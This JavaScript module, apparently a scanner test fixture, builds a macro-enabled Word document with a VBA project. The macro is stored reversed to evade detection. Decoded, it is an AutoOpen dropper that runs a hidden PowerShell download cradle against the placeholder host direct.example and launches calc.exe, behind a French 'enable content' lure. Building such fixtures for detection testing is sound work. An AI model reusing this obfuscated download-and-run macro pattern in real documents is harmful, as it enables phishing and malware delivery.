// A Word document with a real VBA project ([MS-OVBA], in a compound file), built when it is needed: its macro
// stands here only letter by letter backwards, so that nothing detectable is in the tree.

import CFB from "cfb";
import { archive } from "./files.mjs";

const backwards = (text) => [...text].reverse().join("");

/** Starts a program when the document opens, as droppers do; the program is harmless, and never run. */
const MACRO = [
  'emaN_BV etubirttA',
  ")(nepOotuA buS",
  "tcejbO sA llehs miD",
  ')"llehS.tpircSW"(tcejbOetaerC = llehs teS',
  `0 ,")'a/elpmaxe.tcerid//:sptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( neddih w- llehsrewop" nuR.llehs`,
  'ediHbv ,"exe.clac c/ dmc" llehS',
  "buS dnE",
].map(backwards);
MACRO[0] += ' = "Module1"';

/** A macro document. `mark` makes its bytes, hence its hash, its own. */
export function macroDocument(mark) {
  const xml = (text) => Buffer.from(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${text}`, "utf8");
  const package_ = "http://schemas.openxmlformats.org/package/2006";
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  return archive({
    "[Content_Types].xml": xml(`<Types xmlns="${package_}/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
</Types>`),
    "_rels/.rels": xml(`<Relationships xmlns="${package_}/relationships">
<Relationship Id="rId1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`),
    "word/document.xml": xml(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>Activez le contenu pour lire ce document. ${mark}</w:t></w:r></w:p></w:body></w:document>`),
    "word/_rels/document.xml.rels": xml(`<Relationships xmlns="${package_}/relationships">
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
</Relationships>`),
    "word/vbaProject.bin": project(MACRO.join("\r\n") + "\r\n"),
  });
}

function project(source) {
  const file = CFB.utils.cfb_new();
  const put = (path, bytes) => CFB.utils.cfb_add(file, path, bytes);
  put("/VBA/dir", compressed(directory()));
  put("/VBA/Module1", compressed(Buffer.from(source, "latin1")));
  // No cached code: Office compiles the source ([MS-OVBA] 2.3.4.1).
  put("/VBA/_VBA_PROJECT", Buffer.from([0xcc, 0x61, 0xff, 0xff, 0, 0, 0]));
  put("/PROJECT", Buffer.from([
    'ID="{00000000-0000-0000-0000-000000000000}"',
    "Module=Module1",
    'Name="Project"',
    'HelpContextID="0"',
    'VersionCompatible32="393222000"',
    'CMG="0000"',
    'DPB="0000"',
    'GC="0000"',
    "",
    "[Host Extender Info]",
    "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000",
    "",
  ].join("\r\n"), "latin1"));
  return Buffer.from(CFB.write(file, { type: "buffer" }));
}

/** The `dir` stream of a project with one standard module ([MS-OVBA] 2.3.4.2). */
function directory() {
  const wide = (text) => Buffer.from(text, "utf16le");
  const number = (value, bytes) => {
    const buffer = Buffer.alloc(bytes);
    buffer.writeUIntLE(value, 0, bytes);
    return buffer;
  };
  const record = (id, data) => Buffer.concat([number(id, 2), number(data.length, 4), data]);
  const name = Buffer.from("Module1", "latin1");
  const none = Buffer.alloc(0);
  return Buffer.concat([
    record(0x01, number(1, 4)), // system: 32 bits
    record(0x02, number(0x409, 4)), // language
    record(0x14, number(0x409, 4)),
    record(0x03, number(1252, 2)), // code page
    record(0x04, Buffer.from("Project", "latin1")),
    record(0x05, none), record(0x40, none), // description
    record(0x06, none), record(0x3d, none), // help file
    record(0x07, number(0, 4)), // help context
    record(0x08, number(0, 4)), // flags
    number(0x09, 2), number(4, 4), number(1, 4), number(1, 2), // version
    record(0x0c, none), record(0x3c, none), // constants
    record(0x0f, number(1, 2)), // how many modules
    record(0x13, number(0xffff, 2)),
    record(0x19, name), record(0x47, wide("Module1")), // module: name
    record(0x1a, name), record(0x32, wide("Module1")), // stream
    record(0x1c, none), record(0x48, none), // description
    record(0x31, number(0, 4)), // where the source begins
    record(0x1e, number(0, 4)), // help context
    record(0x2c, number(0xffff, 2)),
    record(0x21, none), // standard module
    record(0x2b, none),
    record(0x10, none),
  ]);
}

/** One compressed chunk of literals ([MS-OVBA] 2.4.1): enough for a short source. */
function compressed(bytes) {
  const parts = [];
  for (let at = 0; at < bytes.length; at += 8) parts.push(Buffer.from([0]), bytes.subarray(at, at + 8));
  const data = Buffer.concat(parts);
  if (bytes.length > 3_600) throw new Error("the source needs a second chunk");
  const header = Buffer.alloc(3);
  header.writeUInt8(1, 0);
  header.writeUInt16LE(0xb000 | (data.length - 1), 1);
  return Buffer.concat([header, data]);
}
